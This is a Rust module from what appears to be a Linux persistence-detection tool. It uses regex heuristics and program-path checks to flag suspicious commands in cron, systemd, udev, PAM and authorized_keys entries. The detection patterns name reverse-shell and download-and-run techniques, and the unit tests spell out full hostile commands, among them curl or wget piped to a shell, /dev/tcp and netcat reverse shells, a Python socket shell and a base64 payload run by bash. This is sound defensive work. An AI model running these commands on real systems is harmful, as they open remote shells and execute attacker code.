//! One set of command heuristics for every launch point.
//!
//! Persistence nobody catalogued still has to *run something*, and what attackers run has a shape:
//! a download piped into a shell, a reverse shell, a decoded blob handed to an interpreter, a binary in
//! a world-writable or hidden directory, a raw-IP URL, a miner. Every command found anywhere — a cron
//! line, a unit's `ExecStart`, a udev `RUN+=`, a PAM `pam_exec` argument, an `authorized_keys`
//! `command=` — is judged here the same way, so a new place to hide code is covered as soon as the
//! inventory reads it.

use std::sync::LazyLock;

use cordon_core::{Confidence, Severity};
use regex::bytes::Regex;

/// Something suspicious about a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Signal {
    /// Short id, appended to the launch point's kind to form the check id (`cron.download_exec`).
    pub id: &'static str,
    /// How bad.
    pub severity: Severity,
    /// How sure.
    pub confidence: Confidence,
    /// ATT&CK technique.
    pub technique: &'static str,
    /// Why, in words a sysadmin understands.
    pub why: &'static str,
}

struct Rule {
    signal: Signal,
    patterns: Vec<Regex>,
    /// Patterns written (a test checks they all compiled).
    #[cfg_attr(not(test), allow(dead_code))]
    written: usize,
}

fn rule(
    id: &'static str,
    severity: Severity,
    confidence: Confidence,
    technique: &'static str,
    why: &'static str,
    patterns: &[&str],
) -> Rule {
    Rule {
        signal: Signal {
            id,
            severity,
            confidence,
            technique,
            why,
        },
        // Patterns are constants checked by a unit test; one that failed to compile would only
        // disable itself, never the hunt.
        patterns: patterns.iter().filter_map(|p| Regex::new(p).ok()).collect(),
        written: patterns.len(),
    }
}

static RULES: LazyLock<Vec<Rule>> = LazyLock::new(|| {
    use Confidence as C;
    use Severity as S;
    vec![
        rule(
            "reverse_shell",
            S::Critical,
            C::High,
            "T1059.004",
            "opens a shell connected to a remote host (reverse or bind shell)",
            &[
                r"/dev/(tcp|udp)/[^/\s]+/\d+",
                r"\b(nc|ncat|netcat|nc\.traditional|busybox\s+nc)\b[^|;&]*\s-[a-z]*[ec]\b",
                r"\bsocat\b[^|;&]*\b(exec|system):",
                r"(?i)\bpython[0-9.]*\b.*\bsocket\b.*\b(subprocess|pty\.spawn|dup2|os\.system)",
                r"(?i)\bperl\b.*\bsocket\b.*\b(exec|system|open)\b",
                r"(?i)\bphp\b.*\bfsockopen\b",
                r"(?i)\bruby\b.*\bTCPSocket\b",
                r"\bmkfifo\b.*\b(nc|ncat|netcat|openssl)\b",
                r"\b(ba|da|z|k)?sh\s+-i\b.*[<>]&\s*\d",
                r"\bopenssl\s+s_client\b.*\|\s*(/bin/)?(ba|da)?sh\b",
            ],
        ),
        rule(
            "download_exec",
            S::High,
            C::High,
            "T1105",
            "downloads code and runs it in the same breath",
            &[
                r"\b(curl|wget|fetch|tftp)\b[^|;&]*\|\s*(sudo\s+)?(/usr)?(/bin/)?(ba|da|z|k)?sh\b",
                r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(/usr/bin/)?(python[0-9.]*|perl|php|ruby|node)\b",
                r"\b(ba|da|z)?sh\s+(-c\s+)?[\x22']?\$\(\s*(curl|wget)\b",
                r"\b(ba|da|z)?sh\s+<\(\s*(curl|wget)\b",
                r"\b(curl|wget)\b[^;&|]*(;|&&)\s*chmod\s+[0-7+a-z]*x[^;&|]*(;|&&)",
                r"\b(curl|wget)\b.*(-o|-O|>)\s*\S*(/tmp|/var/tmp|/dev/shm)/\S+.*(;|&&)\s*(chmod|\S*(/tmp|/var/tmp|/dev/shm)/)",
            ],
        ),
        rule(
            "decode_exec",
            S::High,
            C::High,
            "T1140",
            "decodes a hidden payload and runs it",
            &[
                r"\bbase64\s+(-d|--decode|-D)\b[^;&]*\|\s*(/usr)?(/bin/)?(ba|da|z|k)?sh\b",
                r"\bbase64\s+(-d|--decode|-D)\b[^;&]*\|\s*(python[0-9.]*|perl|php|ruby)\b",
                r"\becho\s+[\x22']?[A-Za-z0-9+/]{40,}={0,2}[\x22']?\s*\|\s*base64\b",
                r"\bxxd\s+-r\b[^;&]*\|\s*(ba|da)?sh\b",
                r"\bopenssl\s+(enc|base64)\b[^;&]*-d\b[^;&]*\|\s*(ba|da)?sh\b",
                r"(?i)\b(exec|eval)\s*\(\s*(base64\.)?b64decode\(",
                r"(?i)\beval\s*\(\s*(base64_decode|gzinflate|str_rot13)\s*\(",
                r"\beval\s+[\x22']?\$\((echo|printf|base64|curl|wget)\b",
            ],
        ),
        rule(
            "miner",
            S::High,
            C::High,
            "T1496",
            "runs a cryptocurrency miner",
            &[
                r"(?i)\b(xmrig|xmr-stak|cpuminer|minerd|cgminer|kdevtmpfsi|kinsing|nanominer|t-rex)\b",
                r"(?i)stratum\+(tcp|ssl)://",
                r"(?i)--donate-level\b",
                r"(?i)\bpool\.(minexmr|supportxmr|hashvault)",
            ],
        ),
        rule(
            "preload",
            S::High,
            C::High,
            "T1574.006",
            "forces a library into every program it starts (LD_PRELOAD), the userland-rootkit trick",
            &[r"\bLD_PRELOAD\s*=\s*\S+", r"ld\.so\.preload"],
        ),
        rule(
            "account_backdoor",
            S::High,
            C::High,
            "T1136.001",
            "creates a privileged account or writes the account files directly",
            &[
                r"\buseradd\b.*-o\b.*-u\s*0\b",
                r"\busermod\b.*-o\b.*-u\s*0\b",
                r">>\s*/etc/(passwd|shadow|sudoers)\b",
                r"\bchpasswd\b.*\broot\b",
            ],
        ),
        rule(
            "ssh_key_injection",
            S::High,
            C::High,
            "T1098.004",
            "adds an SSH key to an account's authorized_keys",
            &[r">>?\s*\S*authorized_keys2?\b"],
        ),
        rule(
            "setuid",
            S::High,
            C::Medium,
            "T1548.001",
            "makes a file setuid, so it runs as its owner (often root)",
            &[r"\bchmod\s+([ugoa]*\+[rwx]*s|[0-7]?[4-7][0-7]{3})\s"],
        ),
        rule(
            "impair_defenses",
            S::Medium,
            C::Medium,
            "T1562.001",
            "switches off logging, auditing or the firewall",
            &[
                r"\b(systemctl|service)\s+(stop|disable|mask)\s+(auditd|rsyslog|syslog|systemd-journald|apparmor|ufw|firewalld|nftables|fail2ban|clamav)",
                r"\biptables\s+(-F|--flush)\b",
                r"\bufw\s+disable\b",
                r"\bsetenforce\s+0\b",
                r"\bauditctl\s+-D\b",
            ],
        ),
        rule(
            "history_evasion",
            S::Medium,
            C::Medium,
            "T1070.003",
            "hides the shell history of what is typed",
            &[
                r"\bHISTFILE=/dev/null\b",
                r"\bunset\s+HISTFILE\b",
                r"\bHISTSIZE=0\b",
                r"\bset\s+\+o\s+history\b",
                r"\bhistory\s+-c\b",
                r"\bln\s+-sf?\s+/dev/null\s+\S*\.bash_history",
            ],
        ),
        rule(
            "immutable",
            S::Medium,
            C::Medium,
            "T1222.002",
            "makes files immutable so they cannot be removed",
            &[r"\bchattr\s+\+[aiu]*i"],
        ),
        rule(
            "rootkit_name",
            S::Critical,
            C::Medium,
            "T1014",
            "names a known Linux rootkit (module or tool)",
            &[
                r"(?i)\b(diamorphine|reptile_module|suterusu|kovid|adore-ng|nuk3gh0st|brokepkg|libprocesshider|jynx2?|azazel|beurk|bdvl|vlany)\b",
            ],
        ),
        rule(
            "raw_ip_url",
            S::Medium,
            C::Medium,
            "T1071.001",
            "fetches from a bare IP address instead of a host name",
            &[r"(?i)\b(https?|ftp)://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"],
        ),
    ]
});

/// Every signal the heuristics can raise (for docs/checks.md).
pub fn signals() -> Vec<Signal> {
    let mut out: Vec<Signal> = RULES.iter().map(|r| r.signal.clone()).collect();
    out.extend([
        Signal {
            id: "tmp_exec",
            severity: Severity::High,
            confidence: Confidence::High,
            technique: "T1059",
            why: "runs a program from a world-writable directory (/tmp, /var/tmp, /dev/shm)",
        },
        Signal {
            id: "hidden_exec",
            severity: Severity::High,
            confidence: Confidence::Medium,
            technique: "T1564.001",
            why: "runs a program from a hidden (dot) file or directory",
        },
    ]);
    out
}

/// Directories anyone can write to, where a legitimate program is almost never installed.
pub const WORLD_WRITABLE: [&[u8]; 5] = [
    b"/tmp/",
    b"/var/tmp/",
    b"/dev/shm/",
    b"/run/shm/",
    b"/dev/mqueue/",
];

/// Judges one command. The result has at most one signal per id, most severe first.
pub fn judge(command: &[u8]) -> Vec<Signal> {
    let mut out: Vec<Signal> = Vec::new();
    for r in RULES.iter() {
        if r.patterns.iter().any(|p| p.is_match(command)) {
            out.push(r.signal.clone());
        }
    }
    let executed = executed_programs(command);
    if executed
        .iter()
        .any(|p| WORLD_WRITABLE.iter().any(|w| p.starts_with(w)))
    {
        out.push(Signal {
            id: "tmp_exec",
            severity: Severity::High,
            confidence: Confidence::High,
            technique: "T1059",
            why: "runs a program from a world-writable directory (/tmp, /var/tmp, /dev/shm)",
        });
    }
    if executed.iter().any(|p| is_hidden_path(p)) {
        out.push(Signal {
            id: "hidden_exec",
            severity: Severity::High,
            confidence: Confidence::Medium,
            technique: "T1564.001",
            why: "runs a program from a hidden (dot) file or directory",
        });
    }
    out.sort_by_key(|s| std::cmp::Reverse(s.severity));
    out
}

/// The programs a shell command line runs: the first word of each simple command, after
/// assignments and wrappers (`sudo`, `nohup`, `env`, `exec` …), plus a script handed to an
/// interpreter (`sh /tmp/x`, `python3 /dev/shm/y.py`).
pub fn executed_programs(command: &[u8]) -> Vec<Vec<u8>> {
    const WRAPPERS: [&[u8]; 11] = [
        b"sudo",
        b"nohup",
        b"exec",
        b"setsid",
        b"nice",
        b"env",
        b"/usr/bin/env",
        b"command",
        b"time",
        b"ionice",
        b"chrt",
    ];
    const INTERPRETERS: [&[u8]; 12] = [
        b"sh", b"bash", b"dash", b"zsh", b"ksh", b"python", b"python2", b"python3", b"perl", b"php", b"ruby",
        b"node",
    ];
    let mut out = Vec::new();
    for segment in command.split(|&b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'`' | b'(' | b')')) {
        let words: Vec<&[u8]> = segment
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .map(|w| w.trim_ascii_start())
            .map(|w| w.strip_prefix(b"\"").unwrap_or(w))
            .map(|w| w.strip_prefix(b"'").unwrap_or(w))
            .collect();
        let mut i = 0;
        let mut after_wrapper = false;
        while let Some(w) = words.get(i) {
            let is_assignment = w.contains(&b'=') && !w.starts_with(b"/") && !w.starts_with(b"-");
            if WRAPPERS.contains(w) {
                after_wrapper = true;
                i += 1;
                continue;
            }
            if w.starts_with(b"-") {
                // Options of sudo/nice/ionice/chrt that take a value: skip the value too.
                let takes_value = after_wrapper
                    && matches!(
                        *w,
                        b"-u" | b"-g" | b"-n" | b"-c" | b"-p" | b"-C" | b"-h" | b"-r" | b"-t"
                    );
                i += if takes_value { 2 } else { 1 };
                continue;
            }
            if is_assignment || w.iter().all(u8::is_ascii_digit) {
                i += 1;
                continue;
            }
            break;
        }
        let Some(first) = words.get(i) else { continue };
        let first = trim_quotes(first);
        out.push(first.to_vec());
        let base = first.rsplit(|&b| b == b'/').next().unwrap_or(first);
        let base = base.split(|&b| b == b'.').next().unwrap_or(base);
        if INTERPRETERS.iter().any(|int| base.starts_with(int))
            && let Some(script) = words.iter().skip(i + 1).find(|w| !w.starts_with(b"-"))
        {
            out.push(trim_quotes(script).to_vec());
        }
    }
    out
}

fn trim_quotes(w: &[u8]) -> &[u8] {
    let w = w.strip_suffix(b"\"").unwrap_or(w);
    w.strip_suffix(b"'").unwrap_or(w)
}

/// True for a path with a component that starts with `.` (other than `.` and `..`), or a component
/// made only of dots and spaces (`...`, `.. `), the classic hiding names.
pub fn is_hidden_path(path: &[u8]) -> bool {
    path.starts_with(b"/")
        && path
            .split(|&b| b == b'/')
            .any(|c| c.len() > 1 && c.first() == Some(&b'.') && c != b"..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(cmd: &str) -> Vec<&'static str> {
        judge(cmd.as_bytes()).into_iter().map(|s| s.id).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        for r in RULES.iter() {
            assert_eq!(
                r.patterns.len(),
                r.written,
                "a pattern of {} failed to compile",
                r.signal.id
            );
        }
    }

    #[test]
    fn catches_what_attackers_run() {
        assert_eq!(
            ids("curl -fsSL http://203.0.113.7/k.sh | sh"),
            ["download_exec", "raw_ip_url"]
        );
        assert_eq!(
            ids("wget -q -O- https://evil.example/x | bash"),
            ["download_exec"]
        );
        assert_eq!(
            ids("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
            ["reverse_shell"]
        );
        assert_eq!(
            ids("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"),
            ["reverse_shell"]
        );
        assert_eq!(ids("nc -e /bin/sh 203.0.113.7 4444"), ["reverse_shell"]);
        assert_eq!(
            ids(
                r#"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",1));os.dup2(s.fileno(),0)'"#
            ),
            ["reverse_shell"]
        );
        assert_eq!(
            ids("echo ZWNobyBoZWxsbyB3b3JsZCB0aGlzIGlzIGEgdGVzdCBwYXlsb2Fk | base64 -d | bash"),
            ["decode_exec"]
        );
        assert_eq!(ids("/tmp/.x/kworker"), ["tmp_exec", "hidden_exec"]);
        assert_eq!(
            ids("nohup /dev/shm/miner --donate-level 1 -o stratum+tcp://pool:3333"),
            ["miner", "tmp_exec"]
        );
        assert_eq!(ids("sh /var/tmp/update.sh"), ["tmp_exec"]);
        assert_eq!(ids("/usr/lib/.cache/sshd -D"), ["hidden_exec"]);
        assert_eq!(ids("LD_PRELOAD=/lib/x.so /usr/sbin/cron"), ["preload"]);
        assert_eq!(
            ids("echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
            ["ssh_key_injection"]
        );
        assert!(ids("chmod u+s /bin/dash ").contains(&"setuid"));
        assert_eq!(ids("systemctl stop auditd"), ["impair_defenses"]);
        assert_eq!(ids("diamorphine"), ["rootkit_name"]);
    }

    #[test]
    fn leaves_ordinary_admin_commands_alone() {
        for benign in [
            "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
            "cd / && run-parts --report /etc/cron.hourly",
            "/opt/app/bin/backup.sh --to /srv/backup",
            "find /tmp -type f -atime +10 -delete",
            "/usr/bin/flock -n /run/deploy.lock /home/deploy/bin/sync-assets",
            "python3 /opt/app/manage.py clearsessions",
            "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc",
            "/usr/sbin/logrotate /etc/logrotate.conf",
        ] {
            assert!(ids(benign).is_empty(), "{benign}: {:?}", ids(benign));
        }
    }

    #[test]
    fn finds_the_programs_a_line_runs() {
        let p = executed_programs(
            b"FOO=1 sudo -u www nohup /tmp/x arg; cd /; python3 -u /dev/shm/y.py | tee log",
        );
        assert_eq!(
            p,
            [
                b"/tmp/x".to_vec(),
                b"cd".to_vec(),
                b"python3".to_vec(),
                b"/dev/shm/y.py".to_vec(),
                b"tee".to_vec()
            ]
        );
        assert!(is_hidden_path(b"/usr/lib/.x/y"));
        assert!(is_hidden_path(b"/root/.../a"));
        assert!(!is_hidden_path(b"/usr/lib/x/../y"));
        assert!(!is_hidden_path(b"relative/.x"));
    }

    proptest::proptest! {
        #[test]
        fn never_panics_on_arbitrary_bytes(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..512)) {
            let _ = judge(&bytes);
        }
    }
}
